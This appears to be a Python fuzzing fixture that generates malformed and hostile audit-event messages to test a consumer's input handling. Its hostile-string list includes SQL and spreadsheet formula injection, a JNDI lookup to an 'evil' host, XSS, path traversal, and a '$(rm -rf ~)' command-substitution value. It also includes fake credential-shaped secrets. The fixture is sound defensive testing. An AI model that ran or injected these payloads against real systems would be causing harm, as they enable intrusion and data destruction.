"""Hostile messages: what may lie on a topic that anyone can write to. Seeded and repeatable."""

import random
from collections.abc import Callable
from typing import Any, Final

import orjson

from schemas.topics import EVENT_BYTES_MAX

VALID: Final[dict[str, Any]] = {
    "timestamp": "2025-10-11T14:23:15Z",
    "user": "jane.doe@company.com",
    "action": "authentication.login.success",
    "ip_address": "203.0.113.42",
    "session_id": "sess_abc123",
    "details": {"method": "sso", "provider": "okta"},
}
TEXTS: Final = (
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "\x1b[2J\x1b]0;owned\x07",
    "\x1b[31mred",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "nul\x00inside",
    "line\nbreak\rand\ttab",
    "\u202eright to left\u202c",
    "\u200bzero\u200bwidth",
    "\U0001f600\U0010ffff",
    "e\u0301" * 20,
    '"quoted" \\ back',
    "%s%n%x",
    " ",
    "",
    "\ufeffbom",
    "$(rm -rf ~)`id`",
)
SECRETS: Final = (
    "AKIAIOSFODNN7EXAMPLE",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "4111111111111111",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
)
NAMES: Final = (
    "timestamp",
    "user",
    "action",
    "event_id",
    "tenant",
    "role",
    "ip_address",
    "user_agent",
    "resource",
    "resource_id",
    "result",
    "session_id",
    "request_id",
    "source",
    "on_behalf_of",
    "reason",
    "details",
)
VALUES: Final[tuple[Any, ...]] = (
    None,
    True,
    0,
    -1,
    1.5,
    "",
    " ",
    "x" * 5_000,
    [],
    {},
    [[]],
    {"a": None},
)
TIMES: Final = (
    "1970-01-01T00:00:00Z",
    "2999-01-01T00:00:00Z",
    "1899-12-31T23:59:59Z",
    "1900-01-01T00:00:00Z",
    "2299-12-31T23:59:59.999999Z",
    "2300-01-01T00:00:00Z",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "0000-00-00T00:00:00Z",
    "2025-02-30T00:00:00Z",
    "2025-10-11T14:23:15",
    "2025-10-11",
    "2025-10-11T25:00:00Z",
    "2025-10-11T24:00:00Z",
    "2016-12-31T23:59:60Z",
    "2025-10-11t14:23:15z",
    "2025-10-11 14:23:15.123456789+05:45",
    "2025-10-11T14:23:15+99:99",
    "２０２５-10-11T14:23:15Z",  # noqa: RUF001 - digits that only look like digits
    "now",
    "",
)
ADDRESSES: Final = (
    "203.0.113.42",
    "2001:db8::1",
    "::ffff:203.0.113.42",
    "fe80::1%eth0",
    "::",
    "::1",
    "0.0.0.0",  # noqa: S104 - an address in an event
    "255.255.255.255",
    "10.0.0.1",
    "8.8.8.8",
    "2001:4860:4860::8888",
    "1.2.3",
    "1.2.3.4.5",
    "01.2.3.4",
    "1.2.3.4/8",
    "::g",
    "",
    "localhost",
    "%",
    "१.2.3.4",
)


def _sized(size: int) -> bytes:
    """Make a valid event of exactly `size` bytes."""
    empty = orjson.dumps(VALID | {"details": {"note": ""}})
    return orjson.dumps(VALID | {"details": {"note": "x" * (size - len(empty))}})


def _with(fragment: bytes) -> bytes:
    """Make an event with raw JSON in its details."""
    return orjson.dumps(VALID)[:-1].replace(b'{"method":"sso","provider":"okta"}', fragment) + b"}"


def hand_made() -> list[bytes | None]:
    """Return the corpus that people thought of."""
    valid = orjson.dumps(VALID)
    spaced = b" " * (EVENT_BYTES_MAX - len(valid)) + valid
    messages: list[bytes | None] = [
        None,
        b"",
        b" \n",
        b"\x00",
        b"\xff\xfe\x00",
        b"\xef\xbb\xbf" + valid,
        valid.decode().encode("utf-16"),
        valid.decode().encode("latin-1") + b"\xe9",
        valid[:-1],
        valid + valid,
        valid + b"\n",
        b"[" + valid + b"]",
        b"null",
        b"true",
        b"42",
        b'"text"',
        b"[]",
        b"{}",
        b"NaN",
        _with(b'{"n":NaN}'),
        _with(b'{"n":Infinity}'),
        _with(b'{"n":-Infinity}'),
        _with(b'{"n":1e999}'),
        _with(b'{"n":' + b"9" * 400 + b"}"),
        _with(b'{"n":0.' + b"1" * 400 + b"}"),
        _with(b'{"n":-0.0,"m":18446744073709551615,"o":-9223372036854775808}'),
        _with(b'{"s":"\\ud800"}'),
        _with(b'{"s":"\\udc00\\ud800"}'),
        _with(b'{"s":"\xed\xa0\x80"}'),
        _with(b'{"s":"\\u0000"}'),
        _with(b'{"\\u0000":1}'),
        _with(b'{"a":1,"a":2}'),
        _with(b'{"a":{"b":1,"b":1}}'),
        valid[:-1] + b',"user":"other"}',
        valid[:-1] + b',"us\\u0065r":"other"}',
        _with(b'{"a":1,}'),
        _with(b"{'a':1}"),
        _with(b'{"a":1}/* comment */'),
        _with(b"[" * 100_000 + b"]" * 100_000),
        _with(b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
        _with(b'{"a":' * 40_000 + b"1" + b"}" * 40_000),
        *(_with(b'{"a":' * depth + b"1" + b"}" * depth) for depth in range(244, 256)),
        *(_with(b'{"a":' + b"[" * depth + b"]" * depth + b"}") for depth in range(244, 256)),
        _sized(EVENT_BYTES_MAX - 1),
        _sized(EVENT_BYTES_MAX),
        _sized(EVENT_BYTES_MAX + 1),
        spaced,
        spaced + b" ",
        _sized(1_048_576),
        b"\xff" * 1_048_576,
        b'"' * 262_144,
        _with(b'{"s":"' + b'\\"' * 130_000 + b'"}'),
        _with(b'{"s":"' + b"\\u0001" * 43_000 + b'"}'),
        _with(b'{"token":"x","s":"' + b"\\\\" * 130_000 + b'"}'),
        _with(b'{"pin":1,"n":[' + b"1E15," * 52_000 + b"1]}"),
        _with(b'{"before":[' + b"1E15," * 26_000 + b'1],"after":[' + b"1E15," * 26_000 + b"1]}"),
        _with(b'{"l":[' + b'{"before":"a","after":"b"},' * 9_000 + b"1]}"),
        _with(b'{"l":[' + b"[]," * 80_000 + b"1]}"),
        _with(b'{"before":' + b'{"before":' * 200 + b"1" + b"}" * 200 + b"}"),
        _with(b'{"pwd":"' + b"p" * 250_000 + b'"}'),
        _with(b'{"s":"' + b"token=a&" * 30_000 + b'"}'),
        b"{" + b",".join(b'"k%d":1' % number for number in range(20_000)) + b"}",
        valid[:-1] + b"".join(b',"k%d":1' % number for number in range(20_000)) + b"}",
    ]
    for name in NAMES:
        messages += [orjson.dumps(VALID | {name: value}) for value in VALUES]
        messages += [orjson.dumps(VALID | {name: text}) for text in (*TEXTS, *SECRETS)]
        messages.append(orjson.dumps({key: VALID[key] for key in VALID if key != name}))
    messages += [orjson.dumps(VALID | {"timestamp": text}) for text in TIMES]
    messages += [orjson.dumps(VALID | {"ip_address": text}) for text in ADDRESSES]
    messages += [orjson.dumps(VALID | {"details": {text: text}}) for text in TEXTS]
    messages += [orjson.dumps(VALID | {text or "?": text}) for text in TEXTS]
    return messages


def hostile_messages(seed: int, count: int) -> list[bytes | None]:
    """Return the hand-made corpus and, up to `count`, messages made of it; the same for a seed."""
    random_ = random.Random(seed)
    messages = hand_made()
    small = [message for message in messages if message and len(message) < 10_000]
    makers: tuple[Callable[[random.Random, list[bytes]], bytes], ...] = (
        _flip,
        _splice,
        _noise,
        _mix_fields,
        _mix_fields,
        _nest,
    )
    while len(messages) < count:
        messages.append(random_.choice(makers)(random_, small))
    random_.shuffle(messages)
    return messages[:count]


def _flip(random_: random.Random, small: list[bytes]) -> bytes:
    """Change a few bytes of a message."""
    message = bytearray(random_.choice(small))
    for _ in range(random_.randint(1, 4)):
        message[random_.randrange(len(message))] = random_.randrange(256)
    return bytes(message)


def _splice(random_: random.Random, small: list[bytes]) -> bytes:
    """Join the head of one message to the tail of another."""
    head, tail = random_.choice(small), random_.choice(small)
    return head[: random_.randrange(len(head) + 1)] + tail[random_.randrange(len(tail) + 1) :]


def _noise(random_: random.Random, small: list[bytes]) -> bytes:  # noqa: ARG001 - one of the makers
    """Make any bytes."""
    return random_.randbytes(random_.randrange(200))


def _mix_fields(random_: random.Random, small: list[bytes]) -> bytes:  # noqa: ARG001 - as above
    """Set some fields to hostile values; most of these are valid events."""
    event = dict(VALID)
    for name in random_.sample(NAMES, random_.randint(1, 6)):
        event[name] = _value(random_, name)
    return orjson.dumps(event)


def _value(random_: random.Random, name: str) -> Any:
    if name == "timestamp":
        return random_.choice(TIMES)
    if name == "ip_address":
        return random_.choice(ADDRESSES)
    if name == "action":
        return random_.choice(("a.b", "data.export.completed", "security.mfa.disabled", "A.b"))
    if name == "details":
        return _json(random_, 4)
    return random_.choice((*TEXTS, *SECRETS, None, 7, "x" * random_.randrange(3_000)))


def _nest(random_: random.Random, small: list[bytes]) -> bytes:  # noqa: ARG001 - as above
    """Give a valid event details of any shape."""
    return orjson.dumps(VALID | {"details": {"d": _json(random_, 6)}})


def _json(random_: random.Random, depth: int) -> Any:
    kind = random_.randrange(8 if depth else 5)
    if kind == 0:
        return random_.choice((None, True, False, 0, 1e300, -1, 2**53 + 1))
    if kind <= 3:
        return random_.choice((*TEXTS, *SECRETS, "90 days", "P1Y"))
    if kind == 4:
        return random_.randrange(-(2**63), 2**64)
    if kind == 5:
        return [_json(random_, depth - 1) for _ in range(random_.randrange(4))]
    keys = ("before", "after", "token", "role", "name", "value", "record_count", "\x1b[2J", "a.b")
    return {random_.choice(keys): _json(random_, depth - 1) for _ in range(random_.randrange(1, 5))}
